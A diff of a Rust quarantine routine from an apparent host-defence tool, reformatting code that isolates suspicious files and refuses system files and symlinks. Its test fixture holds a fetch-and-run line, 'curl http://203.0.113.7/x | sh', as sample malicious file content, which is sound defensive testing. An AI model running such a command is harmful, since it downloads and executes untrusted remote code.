@@ -31,17 +31,17 @@ pub(super) fn quarantine(dir: &Path, id: &str, path: &str) -> Outcome {
     if !source.is_absolute() || path.contains("/../") || path.ends_with("/..") {
         return Err(format!("`{path}` is not an absolute, plain path"));
     }
-    if ESSENTIAL.contains(&path)
-        || std::env::current_exe().is_ok_and(|exe| exe == source)
-    {
+    if ESSENTIAL.contains(&path) || std::env::current_exe().is_ok_and(|exe| exe == source) {
         return Err(format!("{path} is essential to the host: refused"));
     }
     let meta = fs::symlink_metadata(source).map_err(|e| format!("{path}: {e}"))?;
     if !meta.file_type().is_file() {
         return Err(format!("{path} is not a regular file: refused"));
     }
-    let sha256 = crate::hashing::sha256_hex(&mut fs::File::open(source).map_err(|e| format!("{path}: {e}"))?)
-        .ok_or_else(|| format!("{path} could not be read to hash it"))?;
+    let sha256 = crate::hashing::sha256_hex(
+        &mut fs::File::open(source).map_err(|e| format!("{path}: {e}"))?,
+    )
+    .ok_or_else(|| format!("{path} could not be read to hash it"))?;
     fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
     fs::set_permissions(dir, fs::Permissions::from_mode(0o700))
         .map_err(|e| format!("{}: {e}", dir.display()))?;
@@ -61,8 +61,11 @@ pub(super) fn quarantine(dir: &Path, id: &str, path: &str) -> Outcome {
     let record = dir.join(format!("{id}.json"));
     let mut described = undo.clone();
     described["path"] = serde_json::json!(path);
-    fs::write(&record, serde_json::to_vec_pretty(&described).unwrap_or_default())
-        .map_err(|e| format!("{}: {e}", record.display()))?;
+    fs::write(
+        &record,
+        serde_json::to_vec_pretty(&described).unwrap_or_default(),
+    )
+    .map_err(|e| format!("{}: {e}", record.display()))?;
     Ok((
         format!(
             "{path} quarantined as {} ({} bytes, sha256 {sha256})",
@@ -151,7 +154,10 @@ mod tests {
             fs::metadata(dir.join("a1")).unwrap().permissions().mode() & 0o777,
             0
         );
-        assert_eq!(fs::metadata(&dir).unwrap().permissions().mode() & 0o777, 0o700);
+        assert_eq!(
+            fs::metadata(&dir).unwrap().permissions().mode() & 0o777,
+            0o700
+        );
         let record: serde_json::Value =
             serde_json::from_slice(&fs::read(dir.join("a1.json")).unwrap()).unwrap();
         assert_eq!(record["path"], path.as_str());
@@ -161,14 +167,21 @@ mod tests {
             fs::read_to_string(&file).unwrap(),
             "curl http://203.0.113.7/x | sh\n"
         );
-        assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o755);
+        assert_eq!(
+            fs::metadata(&file).unwrap().permissions().mode() & 0o777,
+            0o755
+        );
     }
 
     #[test]
     fn refuses_system_files_links_and_overwrites() {
         let work = tempfile::tempdir().unwrap();
         let dir = work.path().join("q");
-        assert!(quarantine(&dir, "x", "/etc/passwd").unwrap_err().contains("essential"));
+        assert!(
+            quarantine(&dir, "x", "/etc/passwd")
+                .unwrap_err()
+                .contains("essential")
+        );
         assert!(quarantine(&dir, "x", "relative/path").is_err());
         let link = work.path().join("link");
         std::os::unix::fs::symlink("/etc/hostname", &link).unwrap();
